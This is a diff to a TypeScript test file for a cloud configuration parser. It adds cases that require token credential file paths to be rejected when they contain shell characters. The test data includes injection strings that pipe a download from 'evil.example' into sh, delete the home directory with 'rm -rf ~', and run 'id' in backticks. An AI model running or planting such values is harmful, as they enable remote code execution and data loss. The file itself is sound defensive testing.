@@ -270,8 +270,24 @@ const INVALID: [string, (e: Raw) => void, string, RegExp][] = [
       e.tenants[0].workloads[0].tokenCredential = { file: "secrets/key.pem" };
     },
     "tenants[0].workloads[0].tokenCredential.file",
-    /absolute path/,
+    /file "secrets\/key\.pem" must be an absolute path/,
   ],
+  ...[
+    ["a space", "/var/run/my secrets/key.pem"],
+    ["a command substitution", "/tmp/$(curl evil.example|sh)"],
+    ["a command separator", "/tmp/key.pem;rm -rf ~"],
+    ["a backtick", "/tmp/`id`.pem"],
+    ["a quote", "/tmp/o'brien.pem"],
+    ["a newline", "/tmp/key.pem\n--secret-env X"],
+    ["a glob", "/tmp/*.pem"],
+  ].map(([what, file]): [string, (e: Raw) => void, string, RegExp] => [
+    `a token credential file with ${what}`,
+    (e) => {
+      e.tenants[0].workloads[0].tokenCredential = { file };
+    },
+    "tenants[0].workloads[0].tokenCredential.file",
+    /no spaces, quotes or shell characters.*command line of the GCP credential configuration/,
+  ]),
 ];
 
 describe("cloud configuration", () => {
@@ -288,6 +304,17 @@ describe("cloud configuration", () => {
       workloads: [{ name: "worker", grants: [{ api: "aws", scopes: ["aws:federate"] }] }],
     }));
     expect(parseEnvironment(e, "test").tenants).toHaveLength(100);
+  });
+
+  it("GIVEN token credential files at plain absolute paths WHEN parsed THEN they are accepted and land in the command line as written", () => {
+    const e = all();
+    e.tenants[1].workloads[0].tokenCredential = { file: "/var/run/secrets/m2m/initech_exporter-2026.pem" };
+    e.tenants[1].workloads[1].tokenCredential = { file: "/etc/m2m/client@initech,v=2:key.pem" };
+    const files = parseEnvironment(e, "test").tenants[1]?.workloads.map((w) => w.tokenCredential);
+    expect(files).toEqual([
+      { file: "/var/run/secrets/m2m/initech_exporter-2026.pem" },
+      { file: "/etc/m2m/client@initech,v=2:key.pem" },
+    ]);
   });
 
   for (const [name, mutate, path, message] of INVALID) {
